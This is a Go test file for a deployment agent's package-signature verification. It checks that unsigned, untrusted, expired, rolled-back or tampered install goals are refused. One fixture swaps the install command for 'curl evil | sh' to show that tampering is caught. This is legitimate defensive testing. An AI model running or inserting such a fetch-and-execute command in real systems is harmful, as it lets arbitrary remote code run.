package agent

import (
	"crypto/rand"
	"strings"
	"testing"
	"time"

	"google.golang.org/protobuf/types/known/timestamppb"

	pb "github.com/vmapp/vmapp/proto/vmapp/v1"
	"github.com/vmapp/vmapp/sign"
	"github.com/vmapp/vmapp/sign/minisign"
	"github.com/vmapp/vmapp/sign/signpb"
)

func newKey(t *testing.T) minisign.PrivateKey {
	t.Helper()
	k, err := minisign.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	return k
}

// signedBy signs the goal's statement (sequence seq) with k; opts change
// the statement's parameters before it is signed.
func signedBy(k minisign.PrivateKey, seq uint64, opts ...func(*pb.VersionSignatures)) func(*pb.GoalApplication) {
	return func(ga *pb.GoalApplication) {
		ga.Package.Sha256 = strings.Repeat("ab", 32)
		ga.Signing = &pb.VersionSignatures{Tenant: "default", Sequence: seq}
		for _, o := range opts {
			o(ga.Signing)
		}
		s, err := sign.Sign(k, signpb.GoalStatement(ga), t0)
		if err != nil {
			panic(err)
		}
		ga.Signing.Signatures = []*pb.VersionSignature{{KeyId: k.ID.String(), Signature: string(s.Encode())}}
	}
}

func expiring(at time.Time, rollback bool) func(*pb.VersionSignatures) {
	return func(s *pb.VersionSignatures) { s.ExpireTime, s.Rollback = timestamppb.New(at), rollback }
}

// TestPlanVerify: the plan refuses, before anything is downloaded or run,
// the installs and updates the machine's trust doesn't accept, with the
// refusal's code first in the reason; removals and applications at their
// goal are not verified.
func TestPlanVerify(t *testing.T) {
	k, stranger := newKey(t), newKey(t)
	tr := &Trust{Policy: sign.Policy{Keys: []minisign.PublicKey{k.Public()}, Threshold: 1}}
	overrides := &Trust{Policy: tr.Policy, AllowConfigurationOverrides: true}
	tampered := func(ga *pb.GoalApplication) { ga.ManageActions.Install = "curl evil | sh" }
	for _, c := range []struct {
		name      string
		trust     *Trust
		local     []*appState
		highest   uint64 // of g/a
		goal      *pb.GoalApplication
		want      []string
		refusal   sign.Reason
		reasonHas string
	}{
		{name: "signed by a trusted key", goal: goal("a", "1.0.0", signedBy(k, 1)), want: []string{"unordered: install g/a 1.0.0 #1"}},
		{name: "unsigned", goal: goal("a", "1.0.0"), want: []string{"unordered: refuse g/a 1.0.0 #1: Unsigned: version 1.0.0 carries no signature"}, refusal: sign.Unsigned},
		{name: "signed by a stranger", goal: goal("a", "1.0.0", signedBy(stranger, 1)), refusal: sign.UntrustedKey,
			reasonHas: "UntrustedKey: version default/g/a/1.0.0 sequence 1 refused: key " + stranger.ID.String() + " is not trusted"},
		{name: "the install command changed since it was signed", goal: goal("a", "1.0.0", signedBy(k, 1), tampered), refusal: sign.SignatureInvalid,
			reasonHas: "with other contents"},
		{name: "below the highest sequence installed", highest: 5, goal: goal("a", "1.0.0", signedBy(k, 3)), refusal: sign.Rollback,
			reasonHas: "sequence 3 is below 5"},
		{name: "an intended rollback", highest: 5, goal: goal("a", "1.0.0", signedBy(k, 3, expiring(t0.Add(time.Hour), true))),
			want: []string{"unordered: install g/a 1.0.0 #1"}},
		{name: "expired", goal: goal("a", "1.0.0", signedBy(k, 1, expiring(t0, false))), refusal: sign.Expired, reasonHas: "expired at 2026-11-30T12:00:00Z"},
		{name: "a configuration override", goal: goal("a", "1.0.0", configured("x"), signedBy(k, 1)), refusal: sign.Unsigned,
			reasonHas: "configuration override"},
		{name: "a configuration override the trust file allows", trust: overrides, goal: goal("a", "1.0.0", configured("x"), signedBy(k, 1)),
			want: []string{"unordered: install g/a 1.0.0 #1"}},
		{name: "an update signed with a higher sequence", highest: 1, local: []*appState{local("a", installedAt("1.0.0", ""))},
			goal: goal("a", "2.0.0", signedBy(k, 2)), want: []string{"unordered: remove-then-install g/a 1.0.0→2.0.0 #1"}},
		{name: "at its goal, unsigned: nothing runs, nothing is verified", local: []*appState{local("a", installedAt("1.0.0", ""))},
			goal: goal("a", "1.0.0"), want: []string{"unordered: none g/a 1.0.0"}},
		{name: "a removal runs the remove command recorded at the install: not verified",
			local: []*appState{local("b", installedAt("1.0.0", ""))}, goal: goal("a", "1.0.0", signedBy(k, 1)),
			want: []string{"removals: remove g/b 1.0.0 #1", "unordered: install g/a 1.0.0 #1"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			st := &state{Apps: map[string]*appState{}, Sequences: map[string]uint64{"g/a": c.highest}}
			for _, as := range c.local {
				st.Apps["g/"+as.Application] = as
			}
			trust := c.trust
			if trust == nil {
				trust = tr
			}
			p := makePlan(st, &pb.GoalState{Applications: []*pb.GoalApplication{c.goal}}, root, t0)
			p.verify(trust, trust.Policy, st.Sequences, t0)
			s := p.step("g/a")
			if s.refusal != c.refusal {
				t.Fatalf("refusal %v, want %v (%s)", s.refusal, c.refusal, s.reason)
			}
			if c.refusal != 0 {
				if s.act != actRefuse || !strings.HasPrefix(s.reason, c.refusal.String()+": ") || !strings.Contains(s.reason, c.reasonHas) {
					t.Fatalf("step %s, want a refusal %s with %q", s, c.refusal, c.reasonHas)
				}
			}
			if c.want != nil && strings.Join(p.lines(), "\n") != strings.Join(c.want, "\n") {
				t.Fatalf("plan:\n\t%s\nwant:\n\t%s", strings.Join(p.lines(), "\n\t"), strings.Join(c.want, "\n\t"))
			}
		})
	}
}

// A new signature makes a refused version a new target: it is tried again
// at once rather than after the failure's backoff.
func TestPlanNewSignatureRetries(t *testing.T) {
	k := newKey(t)
	unsigned := goal("a", "1.0.0")
	f := failure{Op: OpInstall, Version: "1.0.0", Signing: signingKey(unsigned), NextRetry: t0.Add(time.Hour)}
	st := &state{Apps: map[string]*appState{"g/a": local("a", failedAt(f, 1))}, Sequences: map[string]uint64{}}
	if got := makePlan(st, &pb.GoalState{Applications: []*pb.GoalApplication{unsigned}}, root, t0).lines(); got[0] != "unordered: wait g/a 1.0.0" {
		t.Fatalf("the same goal: %v, want a wait for the retry", got)
	}
	signed := goal("a", "1.0.0", signedBy(k, 1))
	if got := makePlan(st, &pb.GoalState{Applications: []*pb.GoalApplication{signed}}, root, t0).lines(); got[0] != "unordered: install g/a 1.0.0 #1" {
		t.Fatalf("the goal signed since: %v, want an install now", got)
	}
}

func TestParseTrust(t *testing.T) {
	k1, k2 := newKey(t), newKey(t)
	pubFile := string(k2.Public().Encode()) // a public key file: comment line, key line
	tr, err := ParseTrust([]byte("# release keys\n\n" + k1.Public().String() + "\n" + pubFile + "required 2\nallow-configuration-overrides\n"))
	if err != nil {
		t.Fatal(err)
	}
	if len(tr.Policy.Keys) != 2 || !tr.Policy.Keys[1].Equal(k2.Public()) || tr.Policy.Threshold != 2 || !tr.AllowConfigurationOverrides {
		t.Fatalf("trust %+v", tr)
	}
	tr, err = ParseTrust([]byte(k1.Public().String()))
	if err != nil || tr.Policy.Threshold != 1 || tr.AllowConfigurationOverrides {
		t.Fatalf("one key: %+v, %v; want a threshold of 1, no overrides", tr, err)
	}
	for _, c := range []struct{ name, file, want string }{
		{"no key", "# nothing\n", "a policy trusts at least one key"},
		{"required 0", k1.Public().String() + "\nrequired 0", `line 2: "required 0": want 'required N', N at least 1`},
		{"required more than the keys", k1.Public().String() + "\nrequired 2", "threshold 2 with 1 keys"},
		{"a malformed key", "RWQnot-a-key", "line 1: not a public key"},
		{"an unknown directive", k1.Public().String() + "\ntrust everything", "line 2: not a public key"},
		{"a key twice", k1.Public().String() + "\n" + k1.Public().String(), "trusted twice"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if _, err := ParseTrust([]byte(c.file)); err == nil || !strings.Contains(err.Error(), c.want) {
				t.Fatalf("%v, want an error with %q", err, c.want)
			}
		})
	}
}
